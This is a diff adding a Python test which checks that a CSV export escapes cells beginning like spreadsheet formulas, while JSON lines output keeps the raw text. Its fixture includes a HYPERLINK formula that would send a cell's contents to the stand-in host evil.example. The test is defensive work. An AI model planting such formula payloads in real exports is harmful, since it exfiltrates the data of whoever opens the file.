@@ -62,3 +62,20 @@ def test_small_patterns_of_k_people_in_all_are_counted(services) -> None:  # typ
     other = _export(services)[-1]
     assert other["reports"] == 4 and other["reporters"] == "3 or more"
     assert other["title"] == "fewer than 3 patterns with fewer than 3 reporters each"
+
+
+def test_csv_cells_that_start_like_a_formula_are_kept_as_text() -> None:
+    """A report "=HYPERLINK(...)" or an owner "@SUM(...)" must not run when the export is opened in a spreadsheet."""
+    rows = [
+        {"text": '=HYPERLINK("http://evil.example/?x="&A1,"Click") refunds wait', "owner": "@SUM(1+1)"},
+        {"text": "+44 line is down", "owner": "-1 team"},
+        {"text": "refunds wait in the finance inbox", "owner": "Finance ops"},
+        {"text": "\tindented", "owner": None},
+    ]
+    out = io.StringIO()
+    assert write_rows(rows, "csv", out) == 4
+    read = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert [(r["text"][:2], r["owner"][:2]) for r in read] == [("'=", "'@"), ("'+", "'-"), ("re", "Fi"), ("'\t", "")]
+    jsonl = io.StringIO()
+    write_rows(rows[:1], "jsonl", jsonl)
+    assert '"=HYPERLINK(' in jsonl.getvalue()  # JSON lines keep the text as stored
